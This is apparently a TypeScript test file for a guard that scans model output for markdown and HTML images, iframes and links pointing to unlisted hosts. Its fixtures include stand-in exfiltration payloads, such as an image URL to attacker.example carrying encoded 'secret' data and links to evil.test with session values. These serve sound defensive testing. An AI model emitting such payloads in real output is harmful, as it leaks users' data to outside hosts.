import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../types.ts';
import exfiltration from './index.ts';
import { findUrls } from './scan.ts';

const check = async (text: string, cfg: Record<string, unknown> = {}) => {
  const c = await exfiltration.create(exfiltration.manifest.config.parse(cfg));
  const ac = new AbortController();
  const scope = { requestId: 'r', identity: 'i', model: 'm', values: new Map() };
  return (await c({
    stage: 'output',
    segments: [{ path: 'p', text }],
    scope,
    signal: ac.signal,
  })) as Finding[];
};

test('flags a markdown image that sends data to an unlisted host, with the span of the image', async () => {
  const text = 'Done! ![status](https://attacker.example/log?q=c2VjcmV0) Bye';
  const [f] = await check(text);
  assert.equal(f!.type, 'image_exfiltration');
  assert.equal(text.slice(f!.start, f!.end), '![status](https://attacker.example/log?q=c2VjcmV0)');
});

test('flags HTML img/iframe sources, srcset, links and reference definitions', async () => {
  const cases: [string, string][] = [
    ['<img src="https://evil.test/p.png?d=1">', 'image_exfiltration'],
    ["<IMG SRC='//evil.test/x'>", 'image_exfiltration'],
    ['<img srcset="https://ok.test/a.png 1x, https://evil.test/b.png 2x">', 'image_exfiltration'],
    ['<iframe src=https://evil.test/frame></iframe>', 'image_exfiltration'],
    ['<a href="https://evil.test/?q=x">click</a>', 'link_exfiltration'],
    ['[click here](https://evil.test/?session=abc)', 'link_exfiltration'],
    ['![a][1]\n\n[1]: https://evil.test/pixel?d=secret', 'image_exfiltration'],
  ];
  for (const [text, type] of cases) {
    const found = await check(text, { allowed_hosts: ['ok.test'] });
    assert.ok(
      found.some((f) => f.type === type),
      `${text} → ${found.map((f) => f.type)}`,
    );
  }
});

test('allows hosts on the allow-list, subdomains by wildcard, and relative or data URLs', async () => {
  const cfg = { allowed_hosts: ['docs.example.com', '*.cdn.example.com'] };
  assert.deepEqual(
    await check('![d](https://docs.example.com/a.png) [x](https://img.cdn.example.com/b)', cfg),
    [],
  );
  assert.deepEqual(
    await check('![d](/static/a.png) ![e](data:image/png;base64,AAAA) [m](mailto:a@b.c)', cfg),
    [],
  );
  assert.equal((await check('![d](https://cdn.example.com.evil.test/a.png)', cfg)).length, 1);
  assert.equal((await check('![d](https://example.com/a.png)', cfg)).length, 1);
  assert.equal((await check('![d](https://evildocs.example.com/a.png)', cfg)).length, 1);
});

test('with links off, only auto-loading elements are flagged', async () => {
  assert.deepEqual(await check('[x](https://evil.test/?q=1)', { links: false }), []);
  assert.equal((await check('![x](https://evil.test/?q=1)', { links: false })).length, 1);
});

test('ignores prose with brackets, bare URLs and relative links', async () => {
  const text = 'See [1] and (https://example.com/x?q=1) or a[i](j) where j is local';
  assert.deepEqual(
    findUrls(text).map((h) => h.url),
    ['j'],
  );
  assert.deepEqual(await check(text), []);
});
